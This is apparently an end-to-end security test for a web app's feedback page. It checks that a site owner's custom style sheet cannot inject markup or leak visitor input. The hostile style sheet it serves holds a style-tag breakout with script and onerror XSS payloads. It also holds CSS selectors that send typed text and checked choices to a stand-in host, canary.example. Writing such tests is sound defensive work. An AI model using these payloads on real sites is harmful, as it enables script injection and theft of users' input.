import { expect, test } from '../server/test.ts';
import { withFields } from '../server/with-fields.ts';

/** Style sheet of an owner that tries to become markup, and to send out typed text. */
const sheet = `
  </style><script>window.ran = true</script><img src=x onerror="window.ran = true"><style>
  textarea:not(:placeholder-shown), textarea:valid { background: url('https://canary.example/typed') }
  [data-product] input:checked, input[type='radio']:checked { content: url('https://canary.example/chosen') }
  :root { list-style-image: url('https://canary.example/page'); background-image: url('https://canary.example/root') }
  body { font-family: leak; cursor: url('https://canary.example/cursor'), auto }
  @font-face { font-family: leak; src: url('https://canary.example/font') }
  @import 'https://canary.example/more.css';
  main { outline: 3px solid rgb(1, 2, 3) }
`;

test("An owner's style sheet stays a style sheet, and sends nothing of the visitor to another host.", async ({
  page,
  server,
}) => {
  const canary: string[] = [];
  page.on('request', (request) => {
    if (request.url().startsWith('https://canary.example')) canary.push(request.url());
  });
  await page.route('https://canary.example/**', (route) => {
    canary.push(`answered ${route.request().url()}`);
    return route.fulfill({ body: '' });
  });
  const violations: string[] = [];
  await page.exposeFunction('tellViolation', (blocked: string) => violations.push(blocked));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
      (window as unknown as { tellViolation(blocked: string): void }).tellViolation(blockedURI);
    });
  });
  await page.route('**/own-look.css', (route) => route.fulfill({ contentType: 'text/css', body: sheet }));
  await withFields(page, '**/api/v1/nodes/node-harbour*', { css_url_react: `${server.url}/own-look.css` });
  await page.goto('/feedback?node_id=node-harbour');
  // The sheet is at work, so that what it asks for was asked for.
  await expect(page.locator('main')).toHaveCSS('outline-color', 'rgb(1, 2, 3)');
  await page.getByRole('radio').first().check({ force: true });
  await expect.poll(() => violations.some((blocked) => blocked.startsWith('https://canary.example'))).toBe(true);
  expect(await page.evaluate(() => (window as unknown as { ran?: boolean }).ran)).toBeUndefined();
  await expect(page.locator('script:text("window.ran"), img[src="x"]')).toHaveCount(0);
  expect(canary.filter((request) => request.startsWith('answered'))).toEqual([]);
});
